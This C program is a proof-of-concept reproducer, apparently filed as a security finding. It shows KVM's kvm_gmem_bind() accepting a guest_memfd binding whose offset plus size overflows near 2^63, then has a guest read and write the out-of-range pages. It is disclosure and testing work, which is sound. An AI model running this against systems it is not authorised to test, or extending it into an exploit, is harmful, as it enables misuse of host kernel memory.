/*
 * findings/bind-offset-overflow.c: kvm_gmem_bind() accepts a binding wholly past the end of
 * its guest_memfd when guest_memfd_offset is just below 2^63 (see bind-offset-overflow.md).
 *
 * Self-contained: gcc -O2 -Wall -Wextra -o bind-offset-overflow bind-offset-overflow.c
 * Run as a user who may open /dev/kvm: ./bind-offset-overflow [device]
 *
 * It creates a default VM and a 2 MiB guest_memfd (GUEST_MEMFD_FLAG_MMAP | INIT_SHARED), then
 * binds 8192 bytes (two pages) at guest_memfd_offset 2^63 - 4096 (accepted on a kernel with the
 * bug: offset + size wraps negative as a loff_t) and at 2^62 (refused: -EINVAL, the control).
 * Then a vCPU reads the two gfns of the overflowed slot, writes a mark into the first, and reads
 * it again after the host punched the largest range fallocate() accepts. What the guest saw
 * is printed; so is each errno.
 *
 * Output, one fact a line, "key: value" (test/live-finding.test.ts parses the `bind` lines):
 *   bind offset=<decimal> size=8192: 0 | -EINVAL | -<errno>
 *   ...
 *   result: overflow accepted (the bug) | overflow refused
 * Exit status: 0 the program ran (whatever the kernel answered); 2 no usable KVM here.
 *
 * The guest: 64-bit mode at CPL 3 with paging (under kvm_pvm, the only mode that runs natively
 * and faults through the MMU, hence through guest_memfd), gpa < 1 GiB identity-mapped with
 * 2 MiB pages. Its code and page tables are in an ordinary memslot at 16 MiB; the overflowed
 * slot sits at gfn 0x100 (1 MiB); a write to gpa 0x3ff000 (no memslot) ends a run.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <linux/falloc.h>
#include <linux/kvm.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

/* guest_memfd uapi (Linux 6.8+), for older system headers */
struct region2 {
	uint32_t slot, flags;
	uint64_t guest_phys_addr, memory_size, userspace_addr, guest_memfd_offset;
	uint32_t guest_memfd, pad1;
	uint64_t pad2[14];
};
struct create_gmem {
	uint64_t size, flags, reserved[6];
};
struct memory_fault {
	uint64_t flags, gpa, size;
};
#define SET_USER_MEMORY_REGION2 _IOW(KVMIO, 0x49, struct region2)
#define CREATE_GUEST_MEMFD _IOWR(KVMIO, 0xd4, struct create_gmem)
#define MEM_GUEST_MEMFD (1u << 2)
#define CAP_GUEST_MEMFD 234
#define CAP_GUEST_MEMFD_FLAGS 244
#define EXIT_MEMORY_FAULT 39

#define PAGE 4096ull
#define FILE_SIZE (2ull << 20)
#define OVERFLOW_OFFSET ((1ull << 63) - PAGE)
#define CONTROL_OFFSET (1ull << 62)
#define SLOT_GFN 0x100ull
#define CODE_GPA (16ull << 20)
#define DONE_GPA 0x3ff000ull
#define MARK 0x6f766572666c6f77ull /* "overflow" */

static int kvm, vm, vcpu;
static struct kvm_run *run;
static uint8_t *code;

static void die(const char *what)
{
	printf("error: %s: %s\n", what, strerror(errno));
	exit(1);
}

static const char *errname(int e)
{
	static char buf[32];
	if (e == 0)
		return "0";
	if (e == EINVAL)
		return "-EINVAL";
	if (e == EEXIST)
		return "-EEXIST";
	snprintf(buf, sizeof(buf), "-%d", e);
	return buf;
}

static int bind(uint32_t slot, uint64_t gfn, uint64_t offset, int gfd, uint64_t hva)
{
	struct region2 r = { .slot = slot, .flags = MEM_GUEST_MEMFD, .guest_phys_addr = gfn * PAGE,
			     .memory_size = 2 * PAGE, .userspace_addr = hva,
			     .guest_memfd_offset = offset, .guest_memfd = (uint32_t)gfd };
	int e = ioctl(vm, SET_USER_MEMORY_REGION2, &r) ? errno : 0;
	printf("bind offset=%" PRIu64 " size=%llu: %s\n", offset, 2 * PAGE, errname(e));
	return e;
}

/*
 * The guest program: for each of n (op, gpa) pairs at 0x800 of the code page, op 0 reads the
 * 8 bytes at gpa into the results at 0x400, op 1 writes MARK there; then a write to DONE_GPA.
 *   0: mov rax,[rsi]; mov rbx,[rsi+8]; test rax,rax; jnz w; mov rdx,[rbx]; mov [rdi],rdx; jmp n
 *   w: mov [rbx],r9;  n: add rsi,16; add rdi,8; dec ecx; jnz 0; mov [r8],eax; jmp $
 */
static const uint8_t guest_code[] = {
	0x48, 0x8b, 0x06,       /* 0:  mov rax, [rsi] */
	0x48, 0x8b, 0x5e, 0x08, /* 3:  mov rbx, [rsi+8] */
	0x48, 0x85, 0xc0,       /* 7:  test rax, rax */
	0x75, 0x08,             /* 10: jnz 20 */
	0x48, 0x8b, 0x13,       /* 12: mov rdx, [rbx]   the read */
	0x48, 0x89, 0x17,       /* 15: mov [rdi], rdx */
	0xeb, 0x03,             /* 18: jmp 23 */
	0x4c, 0x89, 0x0b,       /* 20: mov [rbx], r9    the write */
	0x48, 0x83, 0xc6, 0x10, /* 23: add rsi, 16 */
	0x48, 0x83, 0xc7, 0x08, /* 27: add rdi, 8 */
	0xff, 0xc9,             /* 31: dec ecx */
	0x75, 0xdd,             /* 33: jnz 0 */
	0x41, 0x89, 0x00,       /* 35: mov [r8], eax */
	0xeb, 0xfe,             /* 38: jmp 38 */
};
#define READ_AT 12
#define WRITE_AT 20

/* Runs the guest over the (op, gpa) pairs; prints what each read gave. */
static void guest(const char *when, const uint64_t (*ops)[2], int n)
{
	uint64_t *pairs = (uint64_t *)(code + 0x800), *res = (uint64_t *)(code + 0x400);
	for (int i = 0; i < n; i++) {
		pairs[2 * i] = ops[i][0];
		pairs[2 * i + 1] = ops[i][1];
		res[i] = 0xa5a5a5a5a5a5a5a5ull;
	}
	struct kvm_regs r;
	memset(&r, 0, sizeof(r));
	r.rflags = 2;
	r.rip = CODE_GPA;
	r.rsi = CODE_GPA + 0x800;
	r.rdi = CODE_GPA + 0x400;
	r.rcx = (uint64_t)n;
	r.r8 = DONE_GPA;
	r.r9 = MARK;
	if (ioctl(vcpu, KVM_SET_REGS, &r))
		die("KVM_SET_REGS");
	char exits[8][64];
	memset(exits, 0, sizeof(exits));
	for (int guard = 0; guard < 100; guard++) {
		int rc = ioctl(vcpu, KVM_RUN, 0), e = errno;
		if (rc < 0 && e == EINTR)
			continue;
		struct kvm_regs q;
		if (ioctl(vcpu, KVM_GET_REGS, &q))
			die("KVM_GET_REGS");
		int i = (int)((q.rdi - (CODE_GPA + 0x400)) / 8);
		if (rc < 0 && e == EFAULT && run->exit_reason == EXIT_MEMORY_FAULT && i >= 0 && i < n) {
			struct memory_fault *mf = (void *)&run->mmio;
			snprintf(exits[i], sizeof(exits[i]), "KVM_EXIT_MEMORY_FAULT (gpa 0x%" PRIx64 ")", (uint64_t)mf->gpa);
			if (q.rip != CODE_GPA + READ_AT && q.rip != CODE_GPA + WRITE_AT) {
				printf("%s: KVM_EXIT_MEMORY_FAULT outside the guest's accesses (rip 0x%llx)\n", when,
				       (unsigned long long)q.rip);
				return;
			}
			q.rip += 3; /* both accesses are 3 bytes long: skip the one that faulted */
			if (ioctl(vcpu, KVM_SET_REGS, &q))
				die("KVM_SET_REGS");
			continue;
		}
		if (rc < 0) {
			printf("%s: KVM_RUN failed: %s (exit reason %u)\n", when, strerror(e), run->exit_reason);
			return;
		}
		if (run->exit_reason == KVM_EXIT_MMIO && run->mmio.phys_addr == DONE_GPA)
			break;
		if (run->exit_reason == KVM_EXIT_MMIO && i >= 0 && i < n) {
			snprintf(exits[i], sizeof(exits[i]), "KVM_EXIT_MMIO (gpa 0x%llx)", (unsigned long long)run->mmio.phys_addr);
			continue;
		}
		if (run->exit_reason == KVM_EXIT_INTR)
			continue;
		printf("%s: unexpected exit reason %u\n", when, run->exit_reason);
		return;
	}
	for (int i = 0; i < n; i++) {
		uint64_t gfn = ops[i][1] / PAGE;
		if (ops[i][0])
			printf("%s: guest write of 0x%llx to gfn 0x%" PRIx64 ": %s\n", when, MARK, gfn,
			       exits[i][0] ? exits[i] : "done");
		else if (exits[i][0])
			printf("%s: guest read of gfn 0x%" PRIx64 ": %s\n", when, gfn, exits[i]);
		else
			printf("%s: guest read of gfn 0x%" PRIx64 ": 0x%" PRIx64 "\n", when, gfn, res[i]);
	}
}

int main(int argc, char **argv)
{
	const char *device = argc > 1 ? argv[1] : "/dev/kvm";
	kvm = open(device, O_RDWR | O_CLOEXEC);
	if (kvm < 0) {
		printf("skip: cannot open %s: %s\n", device, strerror(errno));
		return 2;
	}
	if (ioctl(kvm, KVM_CHECK_EXTENSION, CAP_GUEST_MEMFD) <= 0 ||
	    (ioctl(kvm, KVM_CHECK_EXTENSION, CAP_GUEST_MEMFD_FLAGS) & 3) != 3) {
		printf("skip: %s has no guest_memfd with MMAP|INIT_SHARED\n", device);
		return 2;
	}
	vm = ioctl(kvm, KVM_CREATE_VM, 0);
	if (vm < 0)
		die("KVM_CREATE_VM");
	struct create_gmem cg = { .size = FILE_SIZE, .flags = 3 };
	int gfd = ioctl(vm, CREATE_GUEST_MEMFD, &cg);
	if (gfd < 0)
		die("KVM_CREATE_GUEST_MEMFD");
	printf("guest_memfd: %llu bytes (%llu pages), flags MMAP|INIT_SHARED\n", FILE_SIZE, FILE_SIZE / PAGE);
	/* userspace_addr: a PROT_NONE reservation, so every guest access goes to guest_memfd */
	uint8_t *none = mmap(NULL, 4 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (none == MAP_FAILED)
		die("mmap");

	int overflow = bind(1, SLOT_GFN, OVERFLOW_OFFSET, gfd, (uint64_t)(uintptr_t)none);
	int control = bind(2, SLOT_GFN + 16, CONTROL_OFFSET, gfd, (uint64_t)(uintptr_t)none);
	(void)control;
	if (overflow == 0)
		printf("the binding: file indices [%llu, %llu) of a %llu-page file, gfns [0x%llx, 0x%llx)\n",
		       OVERFLOW_OFFSET / PAGE, OVERFLOW_OFFSET / PAGE + 2, FILE_SIZE / PAGE, SLOT_GFN, SLOT_GFN + 2);

	/* the guest: code and page tables at CODE_GPA, gpa < 1 GiB identity-mapped */
	code = mmap(NULL, 4 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (code == MAP_FAILED)
		die("mmap");
	memcpy(code, guest_code, sizeof(guest_code));
	uint64_t *pml4 = (uint64_t *)(code + PAGE), *pdpt = (uint64_t *)(code + 2 * PAGE), *pd = (uint64_t *)(code + 3 * PAGE);
	pml4[0] = (CODE_GPA + 2 * PAGE) | 7;
	pdpt[0] = (CODE_GPA + 3 * PAGE) | 7;
	for (uint64_t j = 0; j < 512; j++)
		pd[j] = (j << 21) | 0x87;
	struct kvm_userspace_memory_region cr = { .slot = 0, .guest_phys_addr = CODE_GPA, .memory_size = 4 * PAGE,
						  .userspace_addr = (uint64_t)(uintptr_t)code };
	if (ioctl(vm, KVM_SET_USER_MEMORY_REGION, &cr))
		die("KVM_SET_USER_MEMORY_REGION");
	vcpu = ioctl(vm, KVM_CREATE_VCPU, 0);
	if (vcpu < 0)
		die("KVM_CREATE_VCPU");
	int size = ioctl(kvm, KVM_GET_VCPU_MMAP_SIZE, 0);
	run = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, vcpu, 0);
	if (run == MAP_FAILED)
		die("mmap kvm_run");
	struct kvm_sregs sr;
	if (ioctl(vcpu, KVM_GET_SREGS, &sr))
		die("KVM_GET_SREGS");
	struct kvm_segment cs = { .limit = 0xffffffff, .selector = 0x33, .type = 11, .present = 1, .dpl = 3, .s = 1, .l = 1, .g = 1 };
	struct kvm_segment ds = { .limit = 0xffffffff, .selector = 0x2b, .type = 3, .present = 1, .dpl = 3, .db = 1, .s = 1, .g = 1 };
	struct kvm_segment tr = { .limit = 0x67, .type = 11, .present = 1 };
	sr.cs = cs;
	sr.ss = sr.ds = sr.es = sr.fs = sr.gs = ds;
	sr.tr = tr;
	sr.cr0 = 0x80050033;
	sr.cr4 = 0x20;
	sr.efer = 0x501;
	sr.cr3 = CODE_GPA + PAGE;
	if (ioctl(vcpu, KVM_SET_SREGS, &sr))
		die("KVM_SET_SREGS");

	if (overflow == 0) {
		const uint64_t first[][2] = { { 0, SLOT_GFN * PAGE }, { 0, (SLOT_GFN + 1) * PAGE },
					      { 1, SLOT_GFN * PAGE }, { 0, SLOT_GFN * PAGE } };
		guest("bound", first, 4);
		/* the largest punch fallocate() accepts: offset 0, len LLONG_MAX rounded down to a page */
		uint64_t len = ((1ull << 63) - 1) & ~(PAGE - 1);
		int e = fallocate(gfd, FALLOC_FL_KEEP_SIZE | FALLOC_FL_PUNCH_HOLE, 0, (off_t)len) ? errno : 0;
		printf("fallocate(PUNCH_HOLE|KEEP_SIZE, offset 0, len %" PRIu64 "): %s (file indices [0, %" PRIu64 "))\n",
		       len, errname(e), (uint64_t)(len / PAGE));
		const uint64_t again[][2] = { { 0, SLOT_GFN * PAGE } };
		guest("after the punch", again, 1);
		printf("result: overflow accepted (the bug)\n");
	} else {
		printf("result: overflow refused\n");
	}
	return 0;
}
